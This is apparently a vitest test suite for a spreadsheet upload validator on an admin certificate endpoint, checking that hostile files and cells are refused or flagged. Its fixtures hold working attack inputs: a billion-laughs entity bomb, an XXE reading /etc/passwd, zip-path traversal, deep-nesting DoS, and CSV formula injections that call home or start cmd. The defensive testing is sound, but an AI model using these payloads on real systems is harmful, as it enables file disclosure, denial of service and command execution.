import { readdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { beforeAll, describe, expect, test } from 'vitest';
import { adminToken, arrivingFiles, call, origin } from '../support/client';
import { compound, docm, docx, pdf, zip } from '../support/files';
import { readBeside } from '../support/readers';
import { form } from '../support/samples';
import { csv, deflated, HEAD, packed, partsOf, sheetBomb, sheetData, xlsx, xlsxOf } from '../support/sheets';

/** A file may take five seconds to read; the rest is for a busy machine. */
const PATIENCE_MS = 5000 + 10_000;
let token: string;
beforeAll(async () => {
  token = await adminToken();
});

const check = async (file: Buffer, name: string) => {
  const begun = performance.now();
  const answer = await call('POST', '/admin/certificates/sheet/check', {
    token,
    raw: form({}, { sheet: [file, name] }),
  });
  expect(performance.now() - begun).toBeLessThan(PATIENCE_MS);
  // PDFs of certificates are written there too.
  expect(arrivingFiles()).toEqual([]);
  return answer;
};

const ROW = ['Sample', 'Web', 'Course'];
const rows = [HEAD.slice(0, 3), ROW];
const DAMAGED = 'This workbook is damaged or incomplete. Please save it again.';
const NOT_ONE = 'We can’t read this file as a spreadsheet. Please save it as .xlsx or as CSV in UTF-8.';
const NOT_UTF8 = 'This file is not in UTF-8, so letters would come out wrong. Please save it as “CSV UTF-8”.';
const TOO_MUCH =
  'This workbook contains far more than a list. Please copy only the list into a new workbook and save that.';
const TOO_DEEP =
  'We can’t read this workbook: its parts are nested too deeply. Please copy only the list into a new workbook and save that.';
const TOO_MUCH_WORK =
  'This file takes too long to read, or too much memory. Please copy only the list into a new workbook and save that.';
const MACROS = 'This workbook contains macros. Please save it as .xlsx without them.';
const OLD = 'This is an older workbook format, or it has a password. Please save it as .xlsx without a password.';
const TOO_MANY = 'A list can have at most 500 rows. Please split it.';
const noHead = (...missing: string[]) =>
  `The first row must name the columns. Missing: ${missing.join(', ')}. The template has the right header row.`;

const MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
const entities = Array.from({ length: 9 }, (_, n) => `<!ENTITY a${n + 1} "${`&a${n};`.repeat(10)}">`).join('');
const LAUGHS = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "ha">${entities}]><worksheet ${MAIN}><sheetData><row><c t="inlineStr"><is><t>&a9;</t></is></c></row></sheetData></worksheet>`;
const EXTERNAL = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><worksheet ${MAIN}><sheetData><row><c t="inlineStr"><is><t>&a;</t></is></c></row></sheetData></worksheet>`;
const TYPED = `<?xml version="1.0"?><!DOCTYPE worksheet><worksheet ${MAIN}>${sheetData(rows)}</worksheet>`;
const whole = packed(partsOf(sheetData(rows)));

/** Files that are no list, with what is said of them. */
const REFUSED: [name: string, file: () => Buffer | Promise<Buffer>, msg: string][] = [
  ['bomb.xlsx', () => sheetBomb(200), TOO_MUCH],
  ['bomb-that-lies.xlsx', () => sheetBomb(200, 1000), DAMAGED],
  [
    'a-hundred-sheets.xlsx',
    () =>
      xlsx((sheet, workbook) => {
        sheet.addRows(rows);
        for (let count = 2; count <= 100; count += 1) workbook.addWorksheet(`Sheet ${count}`).addRows(rows);
      }),
    'This workbook has 100 sheets. Please keep only the sheet with the list.',
  ],
  [
    'a-hidden-sheet.xlsx',
    () =>
      xlsx((sheet, workbook) => {
        sheet.addRows(rows);
        workbook.addWorksheet('Hidden', { state: 'veryHidden' }).addRows(rows);
      }),
    'This workbook has 2 sheets. Please keep only the sheet with the list.',
  ],
  ['word.xlsx', () => docx, NOT_ONE],
  ['word-with-macros.xlsx', () => docm, NOT_ONE],
  ['document.xlsx', () => packed({ ...partsOf(''), 'xl/workbook.xml': '<?xml version="1.0"?><document/>' }), NOT_ONE],
  ['macros.xlsx', () => packed(partsOf(sheetData(rows), { 'xl/vbaProject.bin': 'Sub AutoOpen()' })), MACROS],
  ['old-macros.xlsx', () => packed(partsOf(sheetData(rows), { 'xl/macrosheets/sheet1.xml': '<x/>' })), MACROS],
  ['empty.zip', () => zip({}), NOT_ONE],
  ['old.xls', () => compound('Workbook'), OLD],
  ['with-a-password.xlsx', () => compound('EncryptedPackage'), OLD],
  ['cut.xlsx', () => whole.subarray(0, whole.length - 30), DAMAGED],
  ['only-its-head.xlsx', () => whole.subarray(0, 4), DAMAGED],
  [
    'no-sheet.xlsx',
    () => {
      const { 'xl/worksheets/sheet1.xml': _, ...parts } = partsOf('');
      return packed(parts);
    },
    DAMAGED,
  ],
  [
    'half-a-sheet.xlsx',
    () => packed({ ...partsOf(''), 'xl/worksheets/sheet1.xml': `<worksheet ${MAIN}><sheetData><row>` }),
    DAMAGED,
  ],
  ['laughs.xlsx', () => packed({ ...partsOf(''), 'xl/worksheets/sheet1.xml': LAUGHS }), DAMAGED],
  ['external.xlsx', () => packed({ ...partsOf(''), 'xl/worksheets/sheet1.xml': EXTERNAL }), DAMAGED],
  ['document-type.xlsx', () => packed({ ...partsOf(''), 'xl/worksheets/sheet1.xml': TYPED }), DAMAGED],
  ['no-such-text.xlsx', () => packed(partsOf('<sheetData><row><c t="s"><v>7</v></c></row></sheetData>')), DAMAGED],
  ['nowhere.xlsx', () => packed(partsOf('<sheetData><row><c r="7"><v>7</v></c></row></sheetData>')), DAMAGED],
  ['outside.xlsx', () => packed(partsOf(sheetData(rows), { '../../evil.xml': 'x' })), DAMAGED],
  [
    'a-million-rows.xlsx',
    () => packed(partsOf(`<sheetData>${'<row r="1"><c><v>1</v></c></row>'.repeat(25_000)}</sheetData>`)),
    TOO_MANY,
  ],
  [
    'merges.xlsx',
    () =>
      packed(partsOf(`${sheetData(rows)}<mergeCells>${'<mergeCell ref="A1:XFD1048576"/>'.repeat(5001)}</mergeCells>`)),
    TOO_MUCH,
  ],
  ['only-a-picture.xlsx', () => pdf, noHead('Name', 'Domain', 'Course')],
  ['latin.csv', () => Buffer.from('Name,Domain,Course\nZo\u00eb,Web,Course\n', 'latin1'), NOT_UTF8],
  ['utf16.csv', () => Buffer.from('\ufeffName,Domain,Course\nZo\u00eb,Web,Course\n', 'utf16le'), NOT_UTF8],
  ['nul.csv', () => Buffer.from('Name,Domain,Course\n\u0000,Web,Course\n'), NOT_ONE],
  ['bytes.csv', () => Buffer.from(Array.from({ length: 5000 }, (_, n) => 128 + ((n * 37) % 128))), NOT_UTF8],
  [
    'an-open-quote.csv',
    () => Buffer.from('Name,Domain,Course\nAsha,Web,Course\n"Ravi,Web,Course\n'),
    'The CSV can’t be read from row 3 on: a quotation mark is missing or in the wrong place.',
  ],
  ['one-line.csv', () => Buffer.from('a,'.repeat(500_000)), noHead('Name', 'Domain', 'Course')],
  ['only-ends.csv', () => Buffer.from('\n'.repeat(1_000_000)), TOO_MANY],
  ['a-million-rows.csv', () => Buffer.from(`Name,Domain,Course\n${'a\n'.repeat(500_000)}`), TOO_MANY],
  ['page.csv', () => Buffer.from('<script>alert(1)</script>'), noHead('Name', 'Domain', 'Course')],
];

describe('A file that is no list', () => {
  test.each(REFUSED)('%s is refused with the reason', async (name, file, msg) => {
    const { status, body } = await check(await file(), name);
    expect([status, body]).toEqual([
      400,
      { success: false, code: 'INVALID_INPUT', message: msg, errors: [{ field: 'sheet', msg }] },
    ]);
  });

  test('is left in no temporary folder', () => {
    expect(readdirSync(tmpdir()).filter((name) => /^[0-9a-f]{25}$/.test(name))).toEqual([]);
  });
});

const nested = (depth: number, root = 'x') => `<${root} ${MAIN}>${'<a>'.repeat(depth - 1)}`;
const linked = (type: string, target: string) =>
  `<Relationship Id="${type}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"/>`;
/** A workbook with shared strings or styles. */
function withPart(type: 'sharedStrings' | 'styles', part: string, sheet = sheetData(rows)): Buffer {
  const parts = partsOf(sheet);
  const links = parts['xl/_rels/workbook.xml.rels'] ?? '';
  return deflated({
    ...parts,
    'xl/_rels/workbook.xml.rels': links.replace('</Rel', `${linked(type, `${type}.xml`)}</Rel`),
    [`xl/${type}.xml`]: part,
  });
}
const sheetOf = (xml: string) => deflated({ ...partsOf(''), 'xl/worksheets/sheet1.xml': xml });
const formats = `<styleSheet ${MAIN}><numFmts><numFmt numFmtId="200" formatCode="${'['.repeat(1_000_000)}"/></numFmts><cellXfs><xf numFmtId="200"/></cellXfs></styleSheet>`;
const number = `<sheetData><row><c><v>1</v></c></row></sheetData>`;

describe('A small workbook that would keep the server busy for minutes', () => {
  test.each<[what: string, file: () => Buffer, msg: string]>([
    ['20,000 tags deep', () => sheetOf(nested(20_000)), TOO_DEEP],
    ['a million tags deep', () => sheetOf(nested(1_000_000)), TOO_DEEP],
    [
      'a million deep in what it names its sheets by',
      () => deflated({ ...partsOf(''), 'xl/workbook.xml': nested(1_000_000, 'workbook') }),
      TOO_DEEP,
    ],
    [
      'a million deep in what leads to its sheet',
      () => deflated({ ...partsOf(''), 'xl/_rels/workbook.xml.rels': nested(1_000_000) }),
      TOO_DEEP,
    ],
    ['a million deep in its texts', () => withPart('sharedStrings', nested(1_000_000)), TOO_DEEP],
    ['a million deep in its styles', () => withPart('styles', nested(1_000_000)), TOO_DEEP],
    ['33 deep', () => sheetOf(`${nested(33, 'worksheet')}${'</a>'.repeat(32)}</worksheet>`), TOO_DEEP],
    ['a format that is looked through a million times', () => withPart('styles', formats, number), TOO_MUCH_WORK],
  ])('%s: is refused without delaying others', { timeout: 60_000 }, async (what, file, msg) => {
    const bytes = file();
    const answer = await readBeside(what, origin, () => check(bytes, 'deep.xlsx'));
    expect([answer.status, answer.body.message]).toEqual([400, msg]);
  });

  test('does not delay the next list', async () => {
    expect((await check(packed(partsOf(sheetData(rows))), 'list.xlsx')).status).toBe(200);
  });

  test('is accepted with elements 32 deep', async () => {
    const deep = `${'<a>'.repeat(31)}${'</a>'.repeat(31)}`;
    expect((await check(packed(partsOf(sheetData(rows) + deep)), 'list.xlsx')).status).toBe(200);
  });
});

const errorsOf = async (file: Buffer) => {
  const { status, body } = await check(file, 'list.xlsx');
  expect(status).toBe(200);
  return body.data.rows[0].errors;
};

describe('A list with something odd in it', () => {
  test.each([
    ['=1+1', 'a formula'],
    ['=HYPERLINK("http://127.0.0.1/?"&A1,"Asha")', 'one that calls home'],
    ["=cmd|'/c calc'!A0", 'one that starts a program'],
    ['="00012"', 'one that keeps zeros'],
  ])('%s is %s, and is not taken for a name', async (formula) => {
    expect(await errorsOf(csv([HEAD, [formula, 'Web', 'Course', '', '', '']]))).toEqual([
      { field: 'Name', msg: 'This is a formula. Please paste its result as a value.' },
    ]);
  });

  test('an endless cell is wrong, and is not sent back whole', async () => {
    for (const file of [
      csv([HEAD, ['x'.repeat(900_000), 'Web', 'Course', '', '', '']]),
      await xlsxOf([HEAD, ['x'.repeat(32_767), 'Web', 'Course']]),
    ]) {
      const { body } = await check(file, 'list.csv');
      expect(body.data.rows[0].errors).toEqual([{ field: 'Name', msg: 'Name must be at most 120 characters long.' }]);
      expect(JSON.stringify(body).length).toBeLessThan(2000);
    }
  });

  test('a cell far to the right, ten thousand of them, or one at the end of all rows, holds nobody up', async () => {
    const far = `<c r="XFD2" t="inlineStr"><is><t>far</t></is></c>`;
    const many = '<c t="inlineStr"><is><t>x</t></is></c>'.repeat(10_000);
    const cells = (names: readonly string[], row: number) =>
      names.map((name, index) => `<c r="${'ABC'[index]}${row}" t="inlineStr"><is><t>${name}</t></is></c>`).join('');
    const sheet = `<sheetData><row r="1">${cells(HEAD.slice(0, 3), 1)}</row><row r="1048576">${cells(ROW, 1048576)}${far}${many}</row></sheetData>`;
    const { body } = await check(packed(partsOf(sheet)), 'far.xlsx');
    expect(body.data.rows).toMatchObject([{ row: 1_048_576, texts: { Name: 'Sample' }, errors: [] }]);
  });

  test('a name that is HTML, or a field of every object, is a text as any other', async () => {
    const { body } = await check(
      csv([
        [...HEAD, '__proto__', 'constructor'],
        ['<img src=x onerror=alert(1)>', 'Web', 'Course', '', '', '', 'a', 'b'],
      ]),
      'list.csv',
    );
    expect(body.data).toMatchObject({
      rows: [{ texts: { Name: '<img src=x onerror=alert(1)>' }, errors: [] }],
      ignored: ['__proto__', 'constructor'],
    });
  });
});
